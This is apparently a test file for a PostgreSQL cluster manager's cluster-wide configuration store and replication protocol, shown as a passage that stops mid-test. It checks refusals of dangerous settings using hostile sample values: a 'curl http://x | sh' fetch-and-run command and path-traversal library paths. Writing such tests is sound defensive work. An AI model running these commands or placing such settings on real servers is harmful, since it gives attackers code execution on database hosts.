// The cluster-wide configuration: the pure decisions (src/config/dynamic.ts), the edit parser of
// the CLI, and the node's store and protocol (src/agent/dynamic-config.ts, its leader's side
// dynamic-config-leader.ts) with real files.
import { afterAll, describe, expect, test } from "bun:test";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as D from "../../src/config/dynamic.ts";
import { parseConfig } from "../../src/config/load.ts";
import type { DynamicDoc, DynamicSettings } from "../../src/config/schema-dynamic.ts";
import { parseEdited, settingsToml } from "../../src/cli/cmd-config.ts";
import { DynamicConfig, maxLagBytesInForce, pgParametersInForce, type DynamicConfigDeps } from "../../src/agent/dynamic-config.ts";
import type { AgentMsg } from "../../src/agent/messages.ts";
import { accessRowsInForce, setAccessRules, setClusterAccessRules } from "../../src/ops/access.ts";
import { memoryLogger } from "../../src/log.ts";
import { ConfigReloader, runningConfig } from "../../src/ops/reload.ts";

const settings = (over: Partial<DynamicSettings> = {}): DynamicSettings => ({
  durability: "quorum", postgres: { parameters: { work_mem: "4MB" } }, access: [], failover: { max_lag_bytes: 1048576 }, ...over,
});
const doc = (version: number, s = settings(), term = 1): DynamicDoc => ({ version, term, at: "2026-12-01T00:00:00Z", by: "n1", settings: s });
const meta = { term: 2, at: "2026-12-01T01:00:00Z", by: "n2" };

describe("decideChange", () => {
  test("a setting that runs a program or loads a library from a path is refused (an API token must not give a shell on every host: review); one a document holds already stays, and may be removed", () => {
    for (const k of ["archive_command", "archive_cleanup_command", "restore_command", "recovery_end_command", "ssl_passphrase_command", "archive_library", "dynamic_library_path", "log_directory", "log_filename", "Archive_Cleanup_Command"]) {
      const r = D.decideChange(doc(1), { base: 1, set: { [`postgres.parameters.${k}`]: "curl http://x | sh" } }, meta);
      expect(r).toMatchObject({ ok: false, status: 400 });
      expect(!r.ok && r.error).toContain(`postgres.parameters.${k} runs a program`);
    }
    const seeded = doc(2, settings({ postgres: { parameters: { archive_command: "pgbackrest --stanza=main archive-push %p" } } }));
    expect(D.decideChange(seeded, { base: 2, set: { "postgres.parameters.work_mem": "64MB" } }, meta).ok).toBe(true);
    expect(D.decideChange(seeded, { base: 2, set: { "postgres.parameters.archive_command": "other %p" } }, meta).ok).toBe(false);
    expect(D.decideChange(seeded, { base: 2, set: { "postgres.parameters.archive_command": null } }, meta).ok).toBe(true);
  });

  test("a library named by a path (loaded from anywhere: a local user's file run as the PostgreSQL user) and the pid file (written where it says: global/pg_control) are refused; library names are not; held ones stay and may be removed (review)", () => {
    const refused = (k: string, v: string) => {
      const r = D.decideChange(doc(1), { base: 1, set: { [`postgres.parameters.${k}`]: v } }, meta);
      expect(r).toMatchObject({ ok: false, status: 400 });
      return !r.ok ? r.error : "";
    };
    for (const [k, v] of [["shared_preload_libraries", "pg_stat_statements,/tmp/x"], ["session_preload_libraries", "/home/u/evil"], ["Session_Preload_Libraries", "'$libdir/../../../tmp/x'"], ["jit_provider", "../../../../tmp/x"], ["shared_preload_libraries", "a\\b"]]) {
      expect(refused(k!, v!)).toContain(`postgres.parameters.${k} names a library by its path`);
    }
    expect(refused("external_pid_file", "global/pg_control")).toContain("postgres.parameters.external_pid_file runs a program, loads a library from a path or writes a file where it says");
    for (const [k, v] of [["shared_preload_libraries", "pg_stat_statements, auto_explain"], ["session_preload_libraries", "auto_explain"], ["jit_provider", "llvmjit"], ["local_preload_libraries", "$libdir/plugins/x"]]) {
      expect(D.decideChange(doc(1), { base: 1, set: { [`postgres.parameters.${k}`]: v } }, meta).ok).toBe(true);
    }
    const held = doc(2, settings({ postgres: { parameters: { shared_preload_libraries: "/opt/lib/x" } } }));
    expect(D.decideChange(held, { base: 2, set: { "postgres.parameters.work_mem": "64MB" } }, meta).ok).toBe(true);
    expect(D.decideChange(held, { base: 2, set: { "postgres.parameters.shared_preload_libraries": "/opt/lib/y" } }, meta).ok).toBe(false);
    expect(D.decideChange(held, { base: 2, set: { "postgres.parameters.shared_preload_libraries": "x" } }, meta).ok).toBe(true);
    expect(D.decideChange(held, { base: 2, set: { "postgres.parameters.shared_preload_libraries": null } }, meta).ok).toBe(true);
    // A host's pgherd.toml sets the pid file for itself, over the cluster's.
    expect(D.parametersInForce(settings({ postgres: { parameters: { external_pid_file: "/a" } } }), { external_pid_file: "/run/pg.pid" }, []).parameters.external_pid_file).toBe("/run/pg.pid");
  });

  test("a new [[access]] rule naming pgherd's replication role over TCP is refused (the managed block rejects that role from all but the peers, so it could never admit it: review); one a document holds stays, local and reject rules are let be", () => {
    const m = { ...meta, replUser: "pgherd_repl" };
    const rule = { type: "host", database: "all", user: "app,pgherd_repl", address: "10.0.0.0/8", method: "scram-sha-256" };
    const r = D.decideChange(doc(1), { base: 1, set: { access: [rule] } }, m);
    expect(r).toMatchObject({ ok: false, status: 400 });
    expect(!r.ok && r.error).toStartWith("access[0].user names pgherd_repl, pgherd's replication role");
    for (const ok of [{ ...rule, user: "app" }, { ...rule, user: "all" }, { ...rule, method: "reject" }, { type: "local", database: "all", user: "pgherd_repl", method: "scram-sha-256" }]) {
      expect(D.decideChange(doc(1), { base: 1, set: { access: [ok] } }, m).ok).toBe(true);
    }
    const holding = doc(2, settings({ access: [rule as DynamicSettings["access"][number]] }));
    expect(D.decideChange(holding, { base: 2, set: { "postgres.parameters.work_mem": "64MB" } }, m).ok).toBe(true);
    // Another role name for replication: that one is checked instead.
    expect(D.decideChange(doc(1), { base: 1, set: { access: [rule] } }, { ...meta, replUser: "repl" }).ok).toBe(true);
  });

  test("a set on the current version makes the next version with exactly the changed keys", () => {
    const r = D.decideChange(doc(3), { base: 3, set: { "postgres.parameters.work_mem": "64MB", durability: "async" } }, meta);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.doc).toMatchObject({ version: 4, term: 2, by: "n2", settings: { durability: "async", postgres: { parameters: { work_mem: "64MB" } } } });
    expect(r.changed).toEqual(["durability", "postgres.parameters.work_mem"]);
  });

  test("compare-and-set: a change based on an older version is refused (409) and names both versions", () => {
    const r = D.decideChange(doc(5), { base: 4, set: { durability: "strict" } }, meta);
    expect(r).toEqual({ ok: false, status: 409, error: expect.stringContaining("based on version 4, the cluster is at version 5") });
  });

  test("a value the schema refuses is a 400 naming the key; nothing is made", () => {
    const managed = D.decideChange(doc(1), { base: 1, set: { "postgres.parameters.port": "5433" } }, meta);
    expect(managed).toMatchObject({ ok: false, status: 400, error: expect.stringContaining('postgres.parameters "port" is managed by pgherd') });
    const slotSync = D.decideChange(doc(1), { base: 1, set: { "postgres.parameters.sync_replication_slots": "on" } }, meta);
    expect(slotSync).toMatchObject({ ok: false, status: 400, error: expect.stringContaining('"sync_replication_slots" is managed by pgherd') });
    const target = D.decideChange(doc(1), { base: 1, set: { "postgres.parameters.recovery_target_time": "2026-01-01" } }, meta);
    expect(target).toMatchObject({ ok: false, status: 400, error: expect.stringContaining('"recovery_target_time" would end a standby\'s recovery') });
    const bad = D.decideChange(doc(1), { set: { durability: "sometimes" } }, meta);
    expect(bad).toMatchObject({ ok: false, status: 400, error: expect.stringContaining("durability must be") });
    const unknown = D.decideChange(doc(1), { set: { "postgres.port": 1 } }, meta);
    expect(unknown).toMatchObject({ ok: false, status: 400, error: expect.stringContaining('unknown cluster-wide key "postgres.port"') });
    const rule = D.decideChange(doc(1), { replace: settings({ access: [{ type: "host", database: "all", user: "app", address: "10.0.0.0/99", method: "scram-sha-256" }] }) }, meta);
    expect(rule).toMatchObject({ ok: false, status: 400, error: expect.stringContaining("access.0.address has a prefix length out of range") });
  });

  test("an empty value removes a parameter (names are case-insensitive); no change keeps the version", () => {
    const r = D.decideChange(doc(2), { set: { "postgres.parameters.WORK_MEM": "" } }, meta);
    expect(r).toMatchObject({ ok: true, doc: { version: 3, settings: { postgres: { parameters: {} } } }, changed: ["postgres.parameters.work_mem"] });
    const same = D.decideChange(doc(2), { set: { "postgres.parameters.work_mem": "4MB" } }, meta);
    expect(same).toMatchObject({ ok: true, doc: { version: 2 }, changed: [] });
  });

  test("without a document yet every change waits (409); set and replace exclude each other", () => {
    expect(D.decideChange(null, { set: { durability: "async" } }, meta)).toMatchObject({ ok: false, status: 409 });
    expect(D.decideChange(doc(1), { set: {}, replace: settings() }, meta)).toMatchObject({ ok: false, status: 400 });
  });
});

test("isNewer orders by version, then by the term of the leader that made it", () => {
  expect(D.isNewer({ version: 2, term: 1 }, { version: 1, term: 9 })).toBe(true);
  expect(D.isNewer({ version: 2, term: 3 }, { version: 2, term: 2 })).toBe(true);
  expect(D.isNewer({ version: 2, term: 2 }, { version: 2, term: 2 })).toBe(false);
  expect(D.isNewer({ version: 1, term: 1 }, null)).toBe(true);
  expect(D.isNewer(undefined, { version: 1, term: 1 })).toBe(false);
});

describe("migration and conflicts", () => {
  const local: D.LocalDynamic = { durability: "strict", parameters: { work_mem: "8MB", shared_buffers: "1GB" }, access: [], maxLagBytes: 5 };

  test("version 1 takes the leader's pgherd.toml values; a durability kept in flags.json wins over the file", () => {
    expect(D.seedSettings(local, undefined)).toEqual({ durability: "strict", postgres: { parameters: { work_mem: "8MB", shared_buffers: "1GB" } }, access: [], failover: { max_lag_bytes: 5 } });
    expect(D.seedSettings(local, "async").durability).toBe("async");
  });

  test("a local value that differs from the cluster's is a conflict; the same value and defaults are not", () => {
    const cluster = settings({ postgres: { parameters: { work_mem: "4MB", shared_buffers: "1GB" } } });
    const c = D.conflicts(local, { durability: true, maxLagBytes: false }, cluster);
    expect(c.map((x) => x.key)).toEqual(["postgres.parameters.work_mem", "durability"]);
    expect(D.conflictLine(c[0]!)).toBe('postgres.parameters.work_mem: pgherd.toml says "8MB", the cluster says "4MB" (the cluster\'s value is in force; change it with pgherd config set/edit, or remove it from pgherd.toml)');
    expect(D.conflicts({ ...local, parameters: { x_y: 1 } }, { durability: false, maxLagBytes: false }, cluster)[0]).toEqual({ key: "postgres.parameters.x_y", local: "1", cluster: null });
  });

  test("in force: the cluster's parameters (none of the local ones), minus those this node's own config manages", () => {
    expect(D.parametersInForce(null, { a: 1 }, [])).toEqual({ parameters: { a: 1 }, dropped: [] });
    const cluster = settings({ postgres: { parameters: { work_mem: "4MB", archive_command: "x" } } });
    expect(D.parametersInForce(cluster, { a: 1 }, ["archive_command"])).toEqual({ parameters: { work_mem: "4MB" }, dropped: ["archive_command"] });
    // A host-only parameter in pgherd.toml is this node's, over the cluster's (re-review: with a
    // document neither could set it); not a conflict either.
    expect(D.parametersInForce(cluster, { archive_command: "y %p", Log_Directory: "log", work_mem: "1MB" }, [])).toEqual({ parameters: { work_mem: "4MB", archive_command: "y %p", Log_Directory: "log" }, dropped: [] });
    expect(D.conflicts({ durability: "quorum", parameters: { archive_command: "y %p", work_mem: "4MB" }, access: [], maxLagBytes: 1048576 }, { durability: false, maxLagBytes: false }, cluster)).toEqual([]);
  });
});

test("config set text: KEY=VALUE, access as JSON, numbers where the schema wants one", () => {
  expect(D.parseAssignment("postgres.parameters.work_mem=64MB")).toEqual({ key: "postgres.parameters.work_mem", value: "64MB" });
  expect(D.parseAssignment("failover.max_lag_bytes=10")).toEqual({ key: "failover.max_lag_bytes", value: 10 });
  expect(D.parseAssignment('access=[{"user":"app","address":"10.0.0.1"}]')).toEqual({ key: "access", value: [{ user: "app", address: "10.0.0.1" }] });
  expect(D.parseAssignment("=x")).toContain("expected KEY=VALUE");
  expect(D.parseAssignment("access=[oops")).toContain("JSON array");
});

test("config edit: the TOML round-trips; an invalid edit names the key or the line", () => {
  const d = doc(7, settings({ access: [{ type: "host", database: "all", user: "app", address: "10.0.0.0/8", method: "scram-sha-256" }] }));
  const text = settingsToml(d);
  expect(text).toContain("version 7");
  expect(parseEdited(text)).toEqual({ ok: true, settings: d.settings });
  expect(parseEdited(text.replace('work_mem = "4MB"', 'work_mem = "4MB"\nport = 5'))).toMatchObject({ ok: false, error: expect.stringContaining('postgres.parameters "port" is managed') });
  expect(parseEdited(text.replace('durability = "quorum"', 'durability = "maybe"'))).toMatchObject({ ok: false, error: expect.stringContaining("edited configuration: durability must be") });
  expect(parseEdited(`${text}\n[failover]\nnope = 1\n`)).toMatchObject({ ok: false, error: expect.stringContaining("TOML syntax error at line") });
  expect(D.diffLines(d.settings, settings())).toEqual([`- access = ${JSON.stringify(d.settings.access)}`, "+ access = []"]);
});

describe("DynamicConfig (the node's store and protocol)", () => {
  const dirs: string[] = [];
  afterAll(() => {
    setAccessRules([]);
    node("reset"); // no document: nothing cluster-wide stays in force for the next test file of this process
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
    expect(pgParametersInForce({ a: 1 })).toEqual({ a: 1 });
    expect(accessRowsInForce()).toEqual([]);
  });

  function node(name: string, toml = "", o: { leading?: boolean; voters?: string[]; refusedParameters?: DynamicConfigDeps["refusedParameters"] } = {}) {
    const dir = mkdtempSync(join(tmpdir(), "pgherd-dyn-"));
    dirs.push(dir);
    const cfg = parseConfig(`cluster = "c"\nsecret = "${"s".repeat(40)}"\nnode_name = "${name}"\nstate_dir = "${dir}"\n${toml}`, "pgherd.toml");
    const sent: Array<[string, AgentMsg]> = [];
    const records: string[] = [];
    const applied: string[][] = [];
    const log = memoryLogger();
    let t = 0;
    const st = { leading: o.leading ?? false, voters: o.voters ?? [] };
    const dyn = new DynamicConfig({
      cfg, nodeId: name, log, send: (to, msg) => (sent.push([to, msg]), true), connected: () => ["p1", "p2"],
      leadership: () => ({ term: 4, leading: st.leading, voters: st.voters }), record: (e) => records.push(e.reason), nameOf: (id) => id,
      legacyDurability: () => undefined, applied: (k) => applied.push(k), now: () => t, sleep: async (ms) => { t += ms; },
      ...(o.refusedParameters ? { refusedParameters: o.refusedParameters } : {}),
    });
    return { dyn, dir, sent, records, applied, log, st, tick: (ms: number) => { t += ms; } };
  }

  test("a leader without a document seeds version 1 from its pgherd.toml after leading 2 s, unless a peer has one", () => {
    const n = node("n1", `[postgres.parameters]\nwork_mem = "8MB"\n[[access]]\nuser = "app"\naddress = "10.0.0.0/8"\n`, { leading: true });
    n.dyn.step();
    n.tick(2500);
    n.dyn.step();
    expect(n.dyn.get()).toMatchObject({ version: 1, term: 4, by: "n1", settings: { postgres: { parameters: { work_mem: "8MB" } }, access: [{ user: "app" }] } });
    expect(n.records[0]).toContain("version 1 created from the leader's pgherd.toml");
    expect(n.sent.filter(([, m]) => m.t === "config-doc").map(([to]) => to)).toEqual(["p1", "p2"]);
    expect(JSON.parse(readFileSync(join(n.dir, "dynamic-config.json"), "utf8")).version).toBe(1);
    expect(accessRowsInForce()).toHaveLength(1);
    const other = node("n2", "", { leading: true });
    other.dyn.observe("p1", { version: 3, term: 1 });
    other.tick(2500);
    other.dyn.step();
    other.dyn.step();
    expect(other.dyn.get()).toBeNull();
    expect(other.sent).toEqual([["p1", { t: "config-req" }]]);
  });

  test("a later document is stored, applied and acknowledged; an older one is not; a malformed one is logged and dropped", () => {
    const n = node("n3", `[postgres.parameters]\nwork_mem = "8MB"\n`, { voters: ["n3", "p1", "p2"] });
    n.dyn.onDocument("p1", doc(2, settings({ postgres: { parameters: { work_mem: "64MB" } } })));
    expect(n.dyn.get()?.version).toBe(2);
    expect(pgParametersInForce({ work_mem: "8MB" })).toEqual({ work_mem: "64MB" });
    expect(maxLagBytesInForce(5)).toBe(1048576);
    expect(n.applied).toEqual([["postgres.parameters.work_mem"]]);
    expect(n.sent).toContainEqual(["p1", { t: "config-ack", version: 2, term: 1 }]);
    expect(n.dyn.view().conflicts).toEqual([{ key: "postgres.parameters.work_mem", local: '"8MB"', cluster: '"64MB"' }]);
    expect(n.log.lines.some((l) => l.includes("conflicts with the cluster-wide configuration: postgres.parameters.work_mem"))).toBe(true);
    n.dyn.onDocument("p2", doc(1));
    expect(n.dyn.get()?.version).toBe(2);
    for (const bad of [null, "x", { ...doc(9), version: -1 }, { ...doc(9), extra: 1 }, doc(9, { ...settings(), postgres: { parameters: { "a b": 1 } } })]) {
      expect(() => n.dyn.onDocument("p2", bad)).not.toThrow();
    }
    expect(n.dyn.get()?.version).toBe(2);
    const errors = n.log.lines.filter((l) => l.startsWith("error rejected a cluster-wide configuration from p2"));
    expect(errors.length).toBe(5);
    expect(errors[2]).toContain("document: version must be at least 1");
    expect(errors.at(-1)).toContain('postgres.parameters "a b" is not a valid PostgreSQL setting name');
  });

  test("the leader's change: compare-and-set, stored, recorded, sent, answered once a majority stored it", async () => {
    const n = node("n1", "", { leading: true, voters: ["n1", "p1", "p2"] });
    n.dyn.onDocument("p1", doc(1)); // not an answer to this leader's read: it does not count as one
    expect(await n.dyn.change({ base: 1, set: { "postgres.parameters.work_mem": "64MB" } })).toMatchObject({ status: 409, message: expect.stringContaining("n1 leads term 4 but has not yet read which configuration version a majority of voters holds (answered: n1; not yet: p1, p2") });
    expect(n.sent).toContainEqual(["p1", { t: "config-req", read: 4 }]);
    n.dyn.onDocument("p1", doc(1), 4); // p1's answer in term 4
    const pending = n.dyn.change({ base: 1, set: { "postgres.parameters.work_mem": "64MB" } });
    n.dyn.onAck("p1", { version: 2, term: 4 });
    const r = await pending;
    expect(r).toMatchObject({ status: 200, ok: true, detail: { version: 2, changed: ["postgres.parameters.work_mem"] } });
    expect(n.records.at(-1)).toBe("cluster configuration version 2 (based on 1): postgres.parameters.work_mem");
    expect(await n.dyn.change({ base: 1, set: { durability: "async" } })).toMatchObject({ status: 409, ok: false });
    const lonely = await n.dyn.change({ base: 2, set: { durability: "async" } });
    expect(lonely).toMatchObject({ status: 202, ok: true });
    expect(lonely.message).toContain("only 1 of 3 voters confirmed it");
    // Version 3 is on the leader alone: nothing is made on top of it until a majority holds it.
    expect(await n.dyn.change({ base: 3, set: { durability: "strict" } })).toMatchObject({ status: 409, message: expect.stringContaining("version 3 is held by n1 only") });
    expect(n.dyn.get()?.version).toBe(3);
    n.dyn.observe("p2", { version: 9, term: 4 });
    expect(await n.dyn.change({ set: { durability: "strict" } })).toMatchObject({ status: 409, message: expect.stringContaining("fetching version 9 from p2") });
    n.st.leading = false;
    expect(await n.dyn.change({ set: { durability: "strict" } })).toMatchObject({ status: 503 });
  });

  /** Three nodes A, B, C wired through an in-memory network (messages handled as message-router.ts does); `down` cuts a node off. */
  function trio() {
    let t = 0;
    const ids = ["A", "B", "C"];
    const queue: Array<[string, string, AgentMsg]> = [];
    const down = new Set<string>();
    const nodes = new Map<string, { dyn: DynamicConfig; lead: { term: number; leading: boolean } }>();
    /** Runs in every sleep of a node's wait, before the network delivers. */
    const hooks = { onSleep: () => {} };
    const deliver = () => {
      for (let m = queue.shift(); m; m = queue.shift()) {
        const [from, to, msg] = m;
        if (down.has(from) || down.has(to)) continue;
        const d = nodes.get(to)!.dyn;
        if (msg.t === "config-req") d.onRequest(from, msg.read);
        else if (msg.t === "config-version") d.observe(from, msg);
        else if (msg.t === "config-doc") d.onDocument(from, msg.doc, msg.read);
        else if (msg.t === "config-ack") d.onAck(from, msg);
      }
    };
    for (const id of ids) {
      const dir = mkdtempSync(join(tmpdir(), "pgherd-dyn-"));
      dirs.push(dir);
      const cfg = parseConfig(`cluster = "c"\nsecret = "${"s".repeat(40)}"\nnode_name = "${id}"\nstate_dir = "${dir}"\n`, "pgherd.toml");
      const lead = { term: 1, leading: false };
      const dyn = new DynamicConfig({
        cfg, nodeId: id, log: memoryLogger(), send: (to, msg) => (queue.push([id, to, msg]), true),
        connected: () => (down.has(id) ? [] : ids.filter((p) => p !== id && !down.has(p))),
        leadership: () => ({ term: lead.term, leading: lead.leading, voters: ids }), record: () => {}, nameOf: (x) => x,
        legacyDurability: () => undefined, applied: () => {}, now: () => t, sleep: async (ms) => { t += ms; hooks.onSleep(); deliver(); },
      });
      nodes.set(id, { dyn, lead });
    }
    const tick = (ms: number) => {
      t += ms;
      for (const n of nodes.values()) n.dyn.step();
      deliver();
    };
    const at = (id: string) => nodes.get(id)!;
    const lead = (id: string, term: number) => {
      for (const [k, n] of nodes) n.lead.term = term, n.lead.leading = k === id;
    };
    return { at, lead, tick, down, deliver, hooks };
  }

  /** trio() with A leading term 1, having read B and C and seeded version 1 (held by all three). */
  function seededTrio() {
    const c = trio();
    c.lead("A", 1);
    c.tick(0);
    c.tick(2500);
    return c;
  }

  test("a leader seeds version 1 only once a majority of voters answered its read with no document", () => {
    const c = trio();
    c.down.add("B").add("C");
    c.lead("A", 1);
    c.tick(0);
    c.tick(2500);
    expect(c.at("A").dyn.get()).toBeNull(); // no voter answered: a document one of them holds may exist
    c.down.delete("B");
    c.tick(1000); // asked again; B holds none
    expect(c.at("A").dyn.get()).toBeNull();
    c.tick(0); // the next housekeeping step
    expect(c.at("A").dyn.get()?.version).toBe(1);
    expect(c.at("B").dyn.get()?.version).toBe(1);
  });

  test("a version a majority stored survives its leader: the next leader reads a majority before it makes one (found by review: it made the same version number over it, in a higher term)", async () => {
    const c = seededTrio();
    for (const id of ["A", "B", "C"]) expect(c.at(id).dyn.get()?.version).toBe(1);
    c.down.add("C");
    expect(await c.at("A").dyn.change({ base: 1, set: { "postgres.parameters.work_mem": "64MB" } })).toMatchObject({ status: 200, message: expect.stringContaining("stored by 2 of 3 voters") });
    // A dies; C, which missed version 2, leads term 2 at once, before any version report reached it.
    c.down.clear();
    c.down.add("A");
    c.lead("C", 2);
    c.down.add("B");
    expect(await c.at("C").dyn.change({ base: 1, set: { durability: "async" } })).toMatchObject({ status: 409, message: expect.stringContaining("C leads term 2 but has not yet read which configuration version a majority of voters holds (answered: C; not yet: A, B") });
    expect(c.at("C").dyn.get()?.version).toBe(1);
    c.down.delete("B");
    // The change waits for its read: B's answer brings version 2, so a change based on 1 is refused, not made over it.
    expect(await c.at("C").dyn.change({ base: 1, set: { durability: "async" } })).toMatchObject({ status: 409, message: expect.stringContaining("based on version 1, the cluster is at version 2") });
    expect(c.at("C").dyn.get()?.settings.postgres.parameters).toEqual({ work_mem: "64MB" });
    expect(await c.at("C").dyn.change({ base: 2, set: { durability: "async" } })).toMatchObject({ status: 200, detail: { version: 3 } });
    c.down.clear();
    c.tick(1000);
    c.tick(1000);
    for (const id of ["A", "B", "C"]) expect(c.at(id).dyn.get()).toMatchObject({ version: 3, term: 2, settings: { durability: "async", postgres: { parameters: { work_mem: "64MB" } } } });
  });

  test("async holds on a new leader only once its read says no later version exists (found by review: a leader that missed a change to quorum promoted with no synchronous standby)", async () => {
    const c = seededTrio();
    expect(await c.at("A").dyn.change({ base: 1, set: { durability: "async" } })).toMatchObject({ status: 200, detail: { version: 2 } });
    expect(c.at("A").dyn.durabilityInForce()).toBe("async"); // its own read in term 1 is done
    // C misses the change back to quorum (stored by A and B), then A dies and C leads term 2 at once.
    c.down.add("C");
    expect(await c.at("A").dyn.change({ base: 2, set: { durability: "quorum" } })).toMatchObject({ status: 200, detail: { version: 3 } });
    c.down.clear();
    c.down.add("A");
    c.lead("C", 2);
    expect(c.at("C").dyn.durability()).toBe("async"); // its document, version 2
    expect(c.at("C").dyn.durabilityInForce()).toBe("quorum"); // not read in term 2 yet
    await c.at("C").dyn.confirmAsync(1000); // B answers: it holds version 3
    expect(c.at("C").dyn.durabilityInForce()).toBe("quorum");
    c.tick(1000); // C fetches version 3
    expect(c.at("C").dyn.get()?.version).toBe(3);
    expect(c.at("C").dyn.durabilityInForce()).toBe("quorum");
    // Back to async through C: in force once stored, since C's read of term 2 is done.
    expect(await c.at("C").dyn.change({ base: 3, set: { durability: "async" } })).toMatchObject({ status: 200, detail: { version: 4 } });
    expect(c.at("C").dyn.durabilityInForce()).toBe("async");
    // A follower runs what its document says (its names matter only once it leads, and reads, itself).
    expect(c.at("B").dyn.durabilityInForce()).toBe("async");
  });

  test("a connected node that is no voter, holding a later leftover document, does not hold changes back (review: every change answered \"fetching version 9 from p2\", a fetch whose answer is ignored, for as long as it stayed connected)", async () => {
    const n = node("n1", "", { leading: true, voters: ["n1", "p1"] }); // p2 is connected, not a voter
    n.dyn.onDocument("p1", doc(1), 4);
    n.dyn.observe("p2", { version: 9, term: 1 });
    n.dyn.onDocument("p2", doc(9)); // ignored: not a voter
    expect(n.dyn.get()?.version).toBe(1);
    const pending = n.dyn.change({ base: 1, set: { durability: "strict" } });
    n.dyn.onAck("p1", { version: 2, term: 4 });
    expect(await pending).toMatchObject({ status: 200, ok: true, detail: { version: 2 } });
    // A voter holding a later one is still fetched first.
    n.dyn.observe("p1", { version: 7, term: 4 });
    expect(await n.dyn.change({ base: 2, set: { durability: "quorum" } })).toMatchObject({ status: 409, message: expect.stringContaining("fetching version 7 from p1") });
  });

  test("a leader makes a version only on one a majority holds, and counts acknowledgements only while it leads", async () => {
    const c = seededTrio();
    c.down.add("B").add("C");
    expect(await c.at("A").dyn.change({ base: 1, set: { durability: "strict" } })).toMatchObject({ status: 202, ok: true });
    expect(await c.at("A").dyn.change({ base: 2, set: { durability: "async" } })).toMatchObject({ status: 409, message: expect.stringContaining("version 2 is held by A only") });
    // B back: it fetches version 2 from A's report, and the next change goes on top.
    c.down.delete("B");
    c.tick(1000);
    expect(c.at("B").dyn.get()?.version).toBe(2);
    expect(await c.at("A").dyn.change({ base: 2, set: { durability: "async" } })).toMatchObject({ status: 200, detail: { version: 3 } });
    // Cut off again, A loses its lease while it waits for acknowledgements: no success is claimed.
    c.down.add("B");
    const pending = c.at("A").dyn.change({ base: 3, set: { durability: "quorum" } });
    c.at("A").lead.leading = false;
    expect(await pending).toMatchObject({ status: 503, ok: false, message: expect.stringContaining("A lost its lease (term 1) before a majority of voters stored version 4") });
  });

  test("a read counts only in the term it was asked in: a leader elected again later reads again", async () => {
    const c = trio();
    c.lead("A", 1);
    c.tick(0);
    c.tick(2500); // A read B and C in term 1 and seeded version 1
    c.down.add("A");
    c.lead("B", 2);
    expect(await c.at("B").dyn.change({ base: 1, set: { durability: "strict" } })).toMatchObject({ status: 200, detail: { version: 2 } });
    // A leads again in term 3, B gone: its term-1 answers say nothing of version 2, C's answer now does.
    c.down.clear();
    c.down.add("B");
    c.lead("A", 3);
    expect(await c.at("A").dyn.change({ base: 1, set: { durability: "async" } })).toMatchObject({ status: 409, message: expect.stringContaining("based on version 1, the cluster is at version 2") });
    expect(c.at("C").dyn.get()).toMatchObject({ version: 2, term: 2, settings: { durability: "strict" } });
  });

  test("an acknowledgement that arrives after the leader lost its lease is not counted", async () => {
    const c = seededTrio();
    c.down.add("C");
    // B's acknowledgement is delivered in the same wait step in which A's lease runs out.
    c.hooks.onSleep = () => { c.at("A").lead.leading = false; };
    expect(await c.at("A").dyn.change({ base: 1, set: { durability: "strict" } })).toMatchObject({ status: 503, ok: false });
    expect(c.at("B").dyn.get()?.version).toBe(2); // B did store it: the answer claims nothing either way
  });

  test("a voter change waits until every majority of the new voter set includes a holder of the document (voters - majority + 1 of them)", async () => {
    const c = seededTrio();
    c.down.add("C");
    expect(await c.at("A").dyn.change({ base: 1, set: { durability: "strict" } })).toMatchObject({ status: 200 });
    expect(c.at("A").dyn.missingFrom(["A", "B", "C"])).toBeNull();
    expect(c.at("A").dyn.missingFrom(["A", "B", "C", "D"])).toBeNull(); // any 3 of the 4 include A or B
    expect(c.at("A").dyn.missingFrom(["A", "B", "C", "D", "E"])).toBe("version 2 held by A, B of 5, 3 needed");
    expect(c.at("A").dyn.missingFrom(["A", "C", "D"])).toBe("version 2 held by A of 3, 2 needed");
    // One voter to two: the leader alone (the joiner takes documents only from voters, so it gets
    // this one only once it is one: review, growing a one-node cluster waited forever).
    expect(c.at("A").dyn.missingFrom(["A", "D"])).toBeNull();
    expect(c.at("A").dyn.missingFrom(["C", "D"])).toBe("version 2 held by none of 2, 1 needed");
  });

  test("a leader without a version: no voter change before its majority read; a voter gone before the read does not block it; a joiner with a newer leftover document is not added (re-reviews)", () => {
    const n = node("n1", "", { leading: true, voters: ["n1", "n2", "n3"] });
    expect(n.dyn.missingFrom(["n1", "n2", "n3", "j"])).toBe("this leader has not read a majority of voters in its term yet");
    n.dyn.observe("n3", { version: 3, term: 2 }); // n3 said it holds version 3, then died before the read
    n.dyn.onDocument("n2", null, 4); // n2 answers the read of term 4: it holds none
    expect(n.dyn.missingFrom(["n1", "n2", "n3", "j"])).toBeNull(); // n3's version was never confirmed: a majority read would have met it
    expect(n.dyn.missingFrom(["n1", "n2"])).toBeNull(); // removing the dead voter is not blocked either
    // a joiner with a document of its own (a leftover of another cluster of the same name and secret)
    n.dyn.observe("j", { version: 5, term: 1 });
    expect(n.dyn.missingFrom(["n1", "n2", "n3", "j"])).toStartWith("j holds cluster configuration version 5 (term 1), newer than this cluster's none: an earlier cluster's");
  });


  test("a parameter the leader's PostgreSQL refuses is refused with its words, nothing stored; other keys are not checked", async () => {
    const asked: Record<string, unknown>[] = [];
    const n = node("n1", "", {
      leading: true, voters: ["n1"],
      refusedParameters: async (p) => (asked.push({ ...p }), "work_mme" in p ? 'unrecognized configuration parameter "work_mme"' : null),
    });
    n.st.voters = ["n1", "p1"]; // the document from a voter, then p1 leaves the voters
    n.dyn.onDocument("p1", doc(1));
    n.st.voters = ["n1"];
    const r = await n.dyn.change({ base: 1, set: { "postgres.parameters.work_mme": "64MB" } });
    expect(r).toMatchObject({ status: 400, ok: false, message: expect.stringContaining('PostgreSQL refuses them (every node would log it at the reload and fail at its next start): unrecognized configuration parameter "work_mme"') });
    expect(n.dyn.get()?.version).toBe(1);
    expect(n.sent.filter(([, m]) => m.t === "config-doc")).toEqual([]);
    expect(await n.dyn.change({ base: 1, set: { "postgres.parameters.work_mem": "64MB" } })).toMatchObject({ status: 200, detail: { version: 2 } });
    expect(asked.at(-1)).toMatchObject({ work_mem: "64MB" });
    const before = asked.length;
    expect(await n.dyn.change({ base: 2, set: { durability: "async" } })).toMatchObject({ status: 200 });
    expect(asked.length).toBe(before); // nothing of PostgreSQL's changed: no check
